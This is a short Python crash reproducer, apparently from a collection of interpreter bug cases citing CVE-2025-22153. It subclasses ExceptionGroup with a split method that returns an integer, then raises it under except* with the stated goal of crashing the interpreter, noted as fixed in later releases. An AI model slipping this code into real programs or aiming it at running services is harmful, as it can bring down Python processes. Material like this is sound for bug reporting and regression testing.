# technique: split put into the class by a metaclass with a made-up namespace
# goal: crash
# mended: later releases
# source: CVE-2025-22153
Group = type('Group', (ExceptionGroup,), {'split': lambda self, condition: 7 ** 100})
try:
    raise Group('group', [ValueError()])
except* ValueError:
    pass
